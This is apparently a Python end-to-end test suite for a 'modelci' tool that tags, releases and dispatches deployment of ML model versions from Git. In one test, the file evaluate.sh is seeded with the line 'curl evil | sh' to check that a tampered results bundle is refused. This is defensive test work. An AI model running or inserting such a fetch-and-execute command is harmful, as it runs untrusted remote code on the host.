"""``modelci ci`` and ``modelci promote`` on what was merged."""

import json
import shutil
import signal
from hashlib import sha256
from pathlib import Path

from tests.e2e.world import (
    BETTER,
    BROKEN,
    SETTINGS,
    WORSE,
    Checkout,
    World,
    hint_of,
    with_token,
)
from tests.fakes.github_server import FakeGitHub

TAGS = ["credit#staging#1", "credit@v0.0.1"]


def test_a_push_to_main_is_promoted_with_its_results(site: World) -> None:
    before = site.bare("rev-parse", "main")
    pushed = site.push(BETTER)
    runner = site.push_runner(before=before)

    done = runner.modelci("ci")

    assert tags(site) == TAGS
    results = site.bare("rev-parse", "main")
    assert site.bare("rev-parse", "main^") == pushed
    assert site.bare("rev-parse", "credit@v0.0.1^{commit}") == results
    assert changed_by(site, results) == ["dvc.lock", "metrics.json"]
    message = site.bare("tag", "--list", "--format=%(contents)", "credit@v0.0.1")
    assert "Modelci-Metric: metrics.json:roc_auc=0.85" in message
    assert "Modelci-Run: https://github.com/acme/credit/actions/runs/42" in message
    assert runner.outputs["tags"].splitlines() == ["credit@v0.0.1", "credit#staging#1"]
    assert runner.outputs["verdict"] == "passed"
    assert runner.document("promotion")["done"] is True
    assert runner.document("report")["base"]["sha"] == before
    assert "**Promoted**: `credit@v0.0.1`, `credit#staging#1`" in runner.summary
    assert "2 tags created on origin" in done.out
    assert "credit@v0.0.1 → origin" in done.err


def test_a_merge_run_again_does_nothing(site: World) -> None:
    before = site.bare("rev-parse", "main")
    site.push(BETTER)
    first = site.push_runner(name="first", before=before)
    second = site.push_runner(name="second", before=before)
    first.modelci("ci")
    refs = site.bare("show-ref")

    again = first.modelci("ci")
    elsewhere = second.modelci("ci")

    assert site.bare("show-ref") == refs
    assert first.outputs["tags"] == second.outputs["tags"] == ""
    assert "restored" in elsewhere.err
    assert "credit: v0.0.1 is already promoted from this commit" in again.out


def test_the_next_version_follows_a_change_of_bytes_only(site: World) -> None:
    site.push({"README.md": "1\n"})
    site.push_runner(name="first").modelci("ci")
    site.laptop.git("pull", "--quiet")
    site.push({"README.md": "2\n"})
    site.push_runner(name="second").modelci("ci")
    assert tags(site) == TAGS
    site.laptop.git("pull", "--quiet")
    site.push(BETTER)

    site.push_runner(name="third").modelci("ci")

    assert tags(site) == [*sorted([*TAGS, "credit#staging#2", "credit@v0.0.2"])]
    clone = site.clone("reader")
    listed = " ".join(clone.modelci("registry").out.split())
    assert "credit v0.0.2 v0.0.2 2" in listed


def test_a_worse_model_is_not_tagged(site: World) -> None:
    before = site.bare("rev-parse", "main")
    pushed = site.push(WORSE)
    runner = site.push_runner(before=before)

    done = runner.modelci("ci", code=1)

    assert tags(site) == []
    assert site.bare("rev-parse", "main") == pushed
    assert "Not promoted: the verdict says no." in done.err
    assert runner.outputs["verdict"] == "blocked"


def test_a_blocked_model_does_not_slip_through_with_the_next_commit(site: World) -> None:
    site.push(BETTER)
    site.push_runner(name="first").modelci("ci")
    promoted = site.bare("rev-parse", "credit@v0.0.1^{commit}")
    site.laptop.git("pull", "--quiet")
    blocked = site.push(WORSE)
    site.push_runner(name="second").modelci("ci", code=1)
    site.laptop.git("pull", "--quiet")
    site.push({"README.md": "nothing about the model\n"})
    runner = site.push_runner(name="third", before=blocked)

    runner.modelci("ci", code=1)

    assert tags(site) == TAGS
    base = runner.document("report")["base"]
    assert (base["sha"], base["tag"]) == (promoted, "credit@v0.0.1")


def test_a_failed_pipeline_is_not_tagged(site: World) -> None:
    site.push(BROKEN)

    site.push_runner().modelci("ci", code=5)

    assert tags(site) == []


def test_nothing_is_tagged_where_main_moved_on_meanwhile(site: World) -> None:
    before = site.bare("rev-parse", "main")
    site.push(BETTER)
    runner = site.push_runner(before=before)
    moved = site.push({"README.md": "meanwhile\n"})

    done = runner.modelci("ci", code=6)

    assert tags(site) == []
    assert site.bare("rev-parse", "main") == moved
    assert "Error: " in done.err
    assert hint_of(done)


def test_a_push_to_another_branch_is_only_checked(site: World) -> None:
    before = site.bare("rev-parse", "main")
    site.push(BETTER, branch="feature")
    runner = site.push_runner(branch="feature")

    runner.modelci("ci")

    assert tags(site) == []
    assert runner.outputs["verdict"] == "passed"
    base = runner.document("report")["base"]
    assert (base["sha"], base["chosen"]) == (before, "merge base with main")


def test_another_job_promotes_what_the_run_job_made(site: World) -> None:
    before = site.bare("rev-parse", "main")
    pushed = site.push(BETTER)
    run = site.push_runner(name="run", before=before)
    promote = site.push_runner(name="promote", before=before)

    run.modelci("ci", "--no-write")
    assert tags(site) == []
    artifact = hand_over(run, promote)
    done = promote.modelci("promote", "--report", f"{artifact}/report.json")

    assert tags(site) == TAGS
    assert site.bare("rev-parse", "main^") == pushed
    assert site.bare("rev-parse", "credit@v0.0.1^{commit}") == site.bare("rev-parse", "main")
    assert "2 tags created on origin" in done.out
    assert promote.outputs["tags"].splitlines() == ["credit@v0.0.1", "credit#staging#1"]
    again = promote.modelci("promote", "--report", f"{artifact}/report.json")
    assert "Nothing to promote" in again.out


def test_both_tags_keep_the_models_sha256(site: World) -> None:
    site.push(BETTER)
    site.push_runner().modelci("ci")
    for tag in TAGS:
        assert sha256_in(site, tag) == sha256(b"0.85\n").hexdigest()


def test_a_job_that_cannot_read_the_bytes_tags_without_sha256_and_says_so(site: World) -> None:
    run, promote = two_jobs(site, BETTER)
    closed = "['remote \"store\"']\n    url = ssh://127.0.0.1:1/nobody/listens/there\n"
    promote.put({".dvc/config.local": closed})

    done = promote.modelci("promote", "--report", f"{hand_over(run, promote)}/report.json")

    assert tags(site) == TAGS
    assert "its tag has no sha256" in " ".join(done.out.split())
    assert [sha256_in(site, tag) for tag in TAGS] == ["", ""]


def test_bytes_that_somebody_changed_are_not_promoted(site: World) -> None:
    run, promote = two_jobs(site, BETTER)
    (model,) = [one for one in (site.root / "store").rglob("*") if is_model(one)]
    model.chmod(0o644)
    model.write_bytes(b"0.99\n")

    report = f"{hand_over(run, promote)}/report.json"
    done = promote.modelci("promote", "--report", report, "--allow", "It is urgent", code=6)

    assert "this is not what was tested" in done.err
    assert tags(site) == []


def two_jobs(site: World, files: dict[str, str]) -> tuple[Checkout, Checkout]:
    """Let one job run the pipeline for what was merged, and give the one that is to promote it."""
    before = site.bare("rev-parse", "main")
    site.push(files)
    run = site.push_runner(name="run", before=before)
    promote = site.push_runner(name="promote", before=before)
    run.modelci("ci", "--no-write")
    return run, promote


def is_model(file: Path) -> bool:
    return file.is_file() and file.read_bytes() == b"0.85\n"


def sha256_in(site: World, tag: str) -> str:
    form = "--format=%(contents:trailers:key=Modelci-Sha256,valueonly)"
    return site.bare("for-each-ref", form, f"refs/tags/{tag}")


def test_another_job_promotes_nothing_where_main_moved_on_meanwhile(site: World) -> None:
    before = site.bare("rev-parse", "main")
    site.push(BETTER)
    run = site.push_runner(name="run", before=before)
    promote = site.push_runner(name="promote", before=before)
    run.modelci("ci", "--no-write")
    artifact = hand_over(run, promote)
    moved = site.push({"README.md": "meanwhile\n"})

    done = promote.modelci("promote", "--report", f"{artifact}/report.json", code=6)

    assert "nothing was tagged" in done.err
    assert "pushed first" in hint_of(done)
    assert tags(site) == []
    assert site.bare("rev-parse", "main") == moved


def test_a_protected_branch_refuses_all_and_the_hint_says_how_to_do_without(site: World) -> None:
    before = site.bare("rev-parse", "main")
    pushed = site.push(BETTER)
    hook = site.remote / "hooks" / "update"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text('#!/bin/sh\ntest "$1" != refs/heads/main\n')
    hook.chmod(0o755)

    done = site.push_runner(before=before).modelci("ci", code=6)

    assert "promote: {commit_results: false}" in hint_of(done)
    assert tags(site) == []
    assert site.bare("rev-parse", "main") == pushed


def test_results_that_the_pull_request_committed_need_no_push_to_the_branch(site: World) -> None:
    before = site.bare("rev-parse", "main")
    site.laptop.put(BETTER)
    site.laptop.modelci("run")
    pushed = site.push({})

    site.push_runner(before=before).modelci("ci")

    assert site.bare("rev-parse", "main") == pushed
    assert site.bare("rev-parse", "credit@v0.0.1^{commit}") == pushed


def test_a_version_becomes_a_release_where_that_is_wanted(site: World, github: FakeGitHub) -> None:
    site.push({**BETTER, "modelci.yaml": SETTINGS + "  releases: true\n"})
    runner = site.push_runner(variables=with_token(github.api_url))
    github.tags["credit@v0.0.1"] = "a" * 40

    runner.modelci("ci")

    assert list(github.releases) == ["credit@v0.0.1"]


def test_a_forge_that_refuses_the_release_does_not_undo_the_tags(
    site: World, github: FakeGitHub
) -> None:
    github.fail("POST", "/releases", 403, "Resource not accessible by integration")
    site.push({**BETTER, "modelci.yaml": SETTINGS + "  releases: true\n"})
    runner = site.push_runner(variables=with_token(github.api_url))

    done = runner.modelci("ci", code=4)

    assert tags(site) == TAGS
    assert "credit@v0.0.1 is tagged, but its release is not whole" in done.err
    assert "Push it first: git push origin credit@v0.0.1" in hint_of(done)
    assert "run `modelci promote` (or this job) again" in hint_of(done)


def test_a_label_names_the_version_and_the_workflow_is_started_for_the_stage(
    site: World, github: FakeGitHub
) -> None:
    site.push({"modelci.yaml": SETTINGS + "  dispatch: deploy.yml\n"})
    job = with_token(github.api_url)
    first = site.push_runner(name="first", variables=job).modelci("ci")
    assert tags(site) == TAGS
    assert "GitHub starts no workflow" not in first.out
    site.laptop.git("pull", "--quiet")
    before = site.bare("rev-parse", "main")
    github.add_merge(7, site.push(BETTER), "modelci:minor", "bug")
    run = site.push_runner(name="run", before=before)
    promote = site.push_runner(name="promote", before=before, variables=job)
    run.modelci("ci", "--no-write")
    report = f"{hand_over(run, promote)}/report.json"

    done = promote.modelci("promote", "--report", report)
    again = promote.modelci("promote", "--report", report)

    assert tags(site) == sorted([*TAGS, "credit#staging#2", "credit@v0.1.0"])
    assert "credit#staging#2 → deploy.yml" in done.err
    assert "Nothing to promote" in again.out
    assert "credit#staging#2 was there before: deploy.yml starts for it again" in again.out
    assert "credit#staging#2 → deploy.yml (again)" in again.err
    assert github.dispatches == [
        ("deploy.yml", f"credit#staging#{number}", {"tag": f"credit#staging#{number}"})
        for number in (1, 2, 2)
    ]


def test_a_workflow_that_is_not_started_leaves_the_tags_and_says_what_to_run(
    site: World, github: FakeGitHub
) -> None:
    github.fail("POST", "/dispatches", 403, "Resource not accessible by integration")
    github.tags["credit@v0.0.1"] = "a" * 40
    site.push({**BETTER, "modelci.yaml": SETTINGS + "  dispatch: deploy.yml\n  releases: true\n"})
    runner = site.push_runner(variables=with_token(github.api_url))

    done = runner.modelci("ci", code=4)

    assert tags(site) == TAGS
    assert list(github.releases) == ["credit@v0.0.1"]
    assert github.dispatches == []
    assert "Promoted, but deploy.yml was not started for credit#staging#1" in done.err
    assert "Write `actions: write` below the job's `permissions:`" in hint_of(done)
    assert "gh workflow run deploy.yml --ref 'credit#staging#1'" in hint_of(done)

    again = runner.modelci("ci")

    assert tags(site) == TAGS
    assert [tag for _, tag, _ in github.dispatches] == ["credit#staging#1"]
    assert "Nothing to promote" in again.out


def test_a_promotion_killed_before_it_starts_the_workflow_starts_it_when_run_again(
    site: World,
) -> None:
    local = "forge: {kind: local, path: ../forge}\n"
    laptop = site.laptop
    laptop.commit({"modelci.yaml": SETTINGS + "  dispatch: deploy.yml\n" + local})
    laptop.git("push", "--quiet", "origin", "main")
    laptop.modelci("report")
    started = site.root / "forge" / "dispatches" / "deploy.yml"
    hook = site.remote / "hooks" / "post-receive"
    # The tags have arrived; Git's answer reaches nobody any more.
    hook.write_text(f'#!/bin/sh\nkill -KILL "$(cat {site.root}/pid)"\nsleep 0.2\n')
    hook.chmod(0o755)
    starter = f"echo $$ > {site.root}/pid; exec modelci promote"
    killed = laptop.run("sh", "-c", starter)
    hook.unlink()
    assert killed.code == -signal.SIGKILL
    assert tags(site) == TAGS
    assert not started.exists()

    plan = laptop.modelci("promote", "--dry-run")
    assert "credit#staging#1 was there before: deploy.yml starts for it again" in plan.out
    assert not started.exists()
    again = laptop.modelci("promote", "--json")

    assert json.loads(again.out)["standing"] == ["credit#staging#1"]
    assert tags(site) == TAGS
    (run,) = started.iterdir()
    assert "credit#staging#1" in run.read_text(encoding="utf-8")
    # Once another version holds the stage, an old job that is run again deploys nothing.
    old = laptop.git("rev-parse", "HEAD")
    laptop.put(BETTER)
    laptop.modelci("run")
    laptop.commit()
    laptop.git("push", "--quiet", "origin", "main")
    laptop.modelci("report")
    laptop.modelci("promote")
    run.unlink()
    laptop.git("checkout", "--quiet", "--detach", old)
    laptop.modelci("report")
    late = laptop.modelci("promote", "--allow", "an old job")
    assert "that would be a rollback" in late.out
    assert not run.exists()


def test_a_bundle_that_changes_code_is_refused(site: World) -> None:
    before = site.bare("rev-parse", "main")
    pushed = site.push(BETTER)
    run = site.push_runner(name="run", before=before)
    promote = site.push_runner(name="promote", before=before)
    run.modelci("ci", "--no-write")
    # What a stage could do: put code into the commit that the next job pushes.
    run.put({"evaluate.sh": "curl evil | sh\n"})
    run.git("commit", "--quiet", "--all", "--amend", "--no-edit")
    run.git("update-ref", "refs/modelci/results", "HEAD")
    run.git(
        "bundle", "create", "--quiet", ".modelci/results.bundle", "refs/modelci/results", "^HEAD^"
    )
    artifact = hand_over(run, promote)

    done = promote.modelci("promote", "--report", f"{artifact}/report.json", code=6)

    assert "changes evaluate.sh, which no stage writes" in done.err
    assert tags(site) == []
    assert site.bare("rev-parse", "main") == pushed


def test_a_dry_run_says_what_would_be_tagged(site: World) -> None:
    laptop = site.laptop
    laptop.modelci("report")

    done = laptop.modelci("promote", "--dry-run")

    assert "2 tags to create on origin" in done.out
    assert tags(site) == []


def test_what_is_not_committed_is_not_promoted(site: World) -> None:
    laptop = site.laptop
    laptop.put(BETTER)
    laptop.modelci("run")
    laptop.modelci("report")

    done = laptop.modelci("promote", code=6)

    assert "with changes" in done.err
    assert "Commit everything" in hint_of(done)
    assert tags(site) == []


def hand_over(run: Checkout, promote: Checkout) -> str:
    """Do what upload-artifact and download-artifact do."""
    folder = f"{promote.variables['RUNNER_TEMP']}/modelci"
    shutil.copytree(run.folder / ".modelci", folder)
    return folder


def tags(site: World) -> list[str]:
    return site.bare("tag", "--list").split()


def changed_by(site: World, commit: str) -> list[str]:
    return site.bare("diff-tree", "-r", "--name-only", "--no-commit-id", commit).split()
